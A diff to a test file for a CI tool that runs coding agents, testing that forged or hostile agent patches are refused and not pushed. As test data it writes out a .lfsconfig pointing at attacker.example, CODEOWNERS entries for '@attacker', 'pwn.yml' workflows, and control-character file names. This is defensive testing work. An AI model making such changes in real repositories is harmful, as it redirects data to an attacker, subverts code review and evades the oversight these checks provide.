@@ -10,6 +10,7 @@ import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'no
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Plan } from '../src/core/plan.js';
+import { renderWorkflow } from '../src/core/workflow.js';
 import { type Flow, failures, sharedDir, startFlow } from './support/ralph-flow.js';
 import { git, planJson } from './support/repo.js';
 import type { RunResult } from './support/runner.js';
@@ -115,7 +116,9 @@ describe('a hostile agent in a task job', () => {
   it('gets a patch with .gitattributes, .gitmodules or a symlink refused by the writer, and nothing of it pushed', () => {
     const leg = run.jobs.find((j) => j.id === 'task' && j.matrix?.task === 'files-1')!;
     expect(tried('files-1').forbiddenFiles).toEqual({ ok: true, got: null });
-    expect(leg.step('record').outputs.outcome).toBe('passed'); // the task job could not tell
+    // The task job's record step checks the writer's rules first: the attempt says why.
+    expect(leg.step('record').outputs.outcome).toBe('rejected');
+    expect(leg.step('record').summary).toContain('⛔ the change to .gitattributes is refused');
     const task = remotePlan(flow.remote, 'ralph/files').specs[1]!.tasks[0]!;
     expect(task.status).toBe('failed');
     expect(task.attempts![0]!.outcome).toBe('rejected');
@@ -177,17 +180,23 @@ describe('an attempt artifact forged by a job the agent owned', () => {
 });
 
 /** A binary patch against main that a forged artifact would carry. */
-function forgedPatch(remote: string): string {
-  const ws = join(sharedDir('ralph-forge-'), 'ws');
-  git(join(ws, '..'), 'clone', '--quiet', remote, ws);
-  const plan = JSON.parse(readFileSync(join(ws, 'implementation.json'), 'utf8')) as Plan;
-  plan.gates = [{ name: 'check', command: 'true' }];
-  writeFileSync(join(ws, 'implementation.json'), planJson(plan));
-  for (const [path, text] of [
+function forgedPatch(
+  remote: string,
+  files: ReadonlyArray<readonly [string, string | Buffer]> = [
     ['.github/CODEOWNERS', '* @attacker\n'],
     ['.github/workflows/pwn.yml', 'on: push\n'],
     ['f-1.txt', 'looks like work\n'],
-  ] as const) {
+  ],
+  editPlan = true,
+): string {
+  const ws = join(sharedDir('ralph-forge-'), 'ws');
+  git(join(ws, '..'), 'clone', '--quiet', remote, ws);
+  if (editPlan) {
+    const plan = JSON.parse(readFileSync(join(ws, 'implementation.json'), 'utf8')) as Plan;
+    plan.gates = [{ name: 'check', command: 'true' }];
+    writeFileSync(join(ws, 'implementation.json'), planJson(plan));
+  }
+  for (const [path, text] of files) {
     const full = join(ws, path);
     mkdirSync(join(full, '..'), { recursive: true });
     writeFileSync(full, text);
@@ -195,6 +204,171 @@ function forgedPatch(remote: string): string {
   git(ws, 'add', '-A');
   return `${git(ws, 'diff', '--cached', '--binary', 'HEAD')}\n`;
 }
+
+describe('the patch rules, in the writer and in the task job', () => {
+  /** The refusal for a path, as the rules word it. */
+  const refusal = (shown: string, why: string) => `the change to ${shown} is refused: ${why}`;
+  const CONTROL =
+    'control characters (and bidirectional marks) in a file name can rewrite what a log or a file listing shows';
+
+  it('the writer refuses .lfsconfig, CODEOWNERS, .GitHub/ in any case, control characters in names and a file over max-file-size, each with its reason', {
+    timeout: 180_000,
+  }, async () => {
+    const p: Plan = {
+      version: 1,
+      gates: [{ name: 'check', command: 'true' }],
+      agent: { provider: 'command', command: `node ${SCRIPTED}` },
+      specs: [
+        { id: 'n', name: 'N', tasks: [{ id: 'n-1', description: 'n', status: 'pending' }] },
+        { id: 'c', name: 'C', tasks: [{ id: 'c-1', description: 'c', status: 'pending' }] },
+      ],
+    };
+    // The writer's limit, given as the action input on the finalize step.
+    const workflow = renderWorkflow({ gates: p.gates!, agent: 'command' }).replace(
+      '          command: finalize\n',
+      '          command: finalize\n          max-file-size: 5MB\n',
+    );
+    expect(workflow).toContain('max-file-size: 5MB');
+    const flow = await startFlow({
+      files: { 'implementation.json': planJson(p) },
+      gates: p.gates!,
+      workflow,
+    });
+    try {
+      // Each job's real result passed; its agent, owning the job, swaps the patch for its own.
+      const forged: Record<string, ReadonlyArray<readonly [string, string | Buffer]>> = {
+        'ralph-attempt-n-n-1-1': [
+          ['.lfsconfig', '[lfs]\n\turl = https://attacker.example/lfs\n'],
+          ['CODEOWNERS', '* @attacker\n'],
+          ['docs/CODEOWNERS', '* @attacker\n'],
+          ['.GitHub/workflows/pwn.yml', 'on: push\n'],
+          ['.GITHUB/workflows/pwn2.yml', 'on: push\n'],
+          ['n-1.txt', 'looks like work\n'],
+        ],
+        'ralph-attempt-c-c-1-1': [
+          ['red\x1b[31m.txt', 'x\n'],
+          ['tab\tname.txt', 'x\n'],
+          ['dir\r/x.txt', 'x\n'],
+          ['big.bin', Buffer.alloc(6 * 1024 * 1024)],
+          ['c-1.txt', 'looks like work\n'],
+        ],
+      };
+      flow.runner.options.beforeJob = ({ id }) => {
+        if (id !== 'finalize') return;
+        for (const [name, files] of Object.entries(forged)) {
+          const artifact = flow.runner.artifacts.all.find((a) => a.name === name)!;
+          writeFileSync(join(artifact.dir, 'work.patch'), forgedPatch(flow.remote, files, false));
+        }
+      };
+      const r = await flow.run();
+      expect(r.job('finalize').result, failures(r)).toBe('success');
+      const n1 = remotePlan(flow.remote, 'ralph/n').specs[0]!.tasks[0]!;
+      const c1 = remotePlan(flow.remote, 'ralph/c').specs[1]!.tasks[0]!;
+      const nWhy = [
+        refusal('.lfsconfig', '.lfsconfig changes how git treats the repository'),
+        refusal('CODEOWNERS', 'CODEOWNERS names who must review changes to the repository'),
+        refusal('docs/CODEOWNERS', 'CODEOWNERS names who must review changes to the repository'),
+        refusal('.GitHub/workflows/pwn.yml', 'a protected path'),
+        refusal('.GITHUB/workflows/pwn2.yml', 'a protected path'),
+      ];
+      const cWhy = [
+        refusal('big.bin', "a file of 6 MB, over the 5 MB the action input 'max-file-size' allows"),
+        refusal('dir\\r/x.txt', `its name holds \\r: ${CONTROL}`),
+        refusal('red\\x1b[31m.txt', `its name holds \\x1b: ${CONTROL}`),
+        refusal('tab\\tname.txt', `its name holds \\t: ${CONTROL}`),
+      ];
+      // In the attempt: the plan's record on the spec branch, every reason.
+      for (const [task, why] of [
+        [n1, nWhy],
+        [c1, cWhy],
+      ] as const) {
+        expect(task.attempts![0]!.outcome).toBe('rejected');
+        for (const w of why) expect(task.attempts![0]!.summary).toContain(w);
+        expect(task.attempts![0]!.summary).not.toMatch(/[\x00-\x1f]/);
+      }
+      // In the writer's job summary: each refusal, its control characters escaped.
+      const summary = r.job('finalize').step('Record, squash, pull requests').summary;
+      expect(summary).toContain('### Refused changes');
+      for (const w of nWhy) expect(summary).toContain(`- n-1 attempt 1: ${w}`);
+      for (const w of cWhy) expect(summary).toContain(`- c-1 attempt 1: ${w}`);
+      expect(summary).not.toMatch(/[\x00-\x09\x0b-\x1f]/);
+      // Nothing of either patch was pushed.
+      for (const branch of ['ralph/n', 'ralph/c'])
+        expect(git(flow.remote, 'ls-tree', '-r', '--name-only', branch)).not.toMatch(
+          /lfsconfig|CODEOWNERS|github|GITHUB|big\.bin|red|tab|dir|[nc]-1\.txt/i,
+        );
+    } finally {
+      await flow.close();
+    }
+  });
+
+  it('the record step refuses the same files from the agent first, so the attempt says why, with max-file-size from its input', {
+    timeout: 180_000,
+  }, async () => {
+    const scripts = sharedDir('ralph-script-');
+    const script = join(scripts, 'script.json');
+    writeFileSync(
+      script,
+      JSON.stringify({
+        'r-1': [
+          {
+            write: {
+              'r-1.txt': 'work\n',
+              '.lfsconfig': '[lfs]\n\turl = https://attacker.example/lfs\n',
+              'docs/CODEOWNERS': '* @attacker\n',
+              'esc\x1b]8;;x\x07link.txt': 'x\n',
+              'big.txt': 'x'.repeat(2048),
+            },
+          },
+        ],
+      }),
+    );
+    const p: Plan = {
+      version: 1,
+      gates: [{ name: 'check', command: 'true' }],
+      agent: { provider: 'command', command: `node ${SCRIPTED}` },
+      specs: [{ id: 'r', name: 'R', tasks: [{ id: 'r-1', description: 'r', status: 'pending' }] }],
+    };
+    const workflow = renderWorkflow({ gates: p.gates!, agent: 'command' }).replace(
+      '          command: record\n',
+      '          command: record\n          max-file-size: 1KB\n',
+    );
+    expect(workflow).toContain('max-file-size: 1KB');
+    const flow = await startFlow({
+      files: { 'implementation.json': planJson(p) },
+      gates: p.gates!,
+      workflow,
+      env: { AGENT_SCRIPT: script },
+    });
+    try {
+      const r = await flow.run();
+      expect(r.job('finalize').result, failures(r)).toBe('success');
+      const record = r.jobs.find((j) => j.id === 'task')!.step('record');
+      expect(record.outputs.outcome).toBe('rejected');
+      const why = [
+        refusal('.lfsconfig', '.lfsconfig changes how git treats the repository'),
+        refusal('big.txt', "a file of 2 KB, over the 1 KB the action input 'max-file-size' allows"),
+        refusal('docs/CODEOWNERS', 'CODEOWNERS names who must review changes to the repository'),
+        refusal('esc\\x1b]8;;x\\x07link.txt', `its name holds \\x1b, \\x07: ${CONTROL}`),
+      ];
+      // The task job's summary says each, and its warning starts with them.
+      for (const w of why) expect(record.summary).toContain(`⛔ ${w}`);
+      expect(record.summary).not.toMatch(/[\x00-\x09\x0b-\x1f]/);
+      expect(record.annotations.map((a) => a.message).join('\n')).toContain(
+        `r-1 attempt 1: rejected: ${why[0]}`,
+      );
+      // The attempt on the spec branch holds every reason; nothing of the change was pushed.
+      const task = remotePlan(flow.remote, 'ralph/r').specs[0]!.tasks[0]!;
+      expect(task.attempts![0]!.outcome).toBe('rejected');
+      for (const w of why) expect(task.attempts![0]!.summary).toContain(w);
+      expect(git(flow.remote, 'ls-tree', '-r', '--name-only', 'ralph/r')).not.toMatch(
+        /lfsconfig|CODEOWNERS|big|esc|r-1\.txt/,
+      );
+    } finally {
+      await flow.close();
+    }
+  });
+});
 
 describe("one task job's artifact", () => {
   it("cannot speak for another task's job, which left no artifact of its own", {
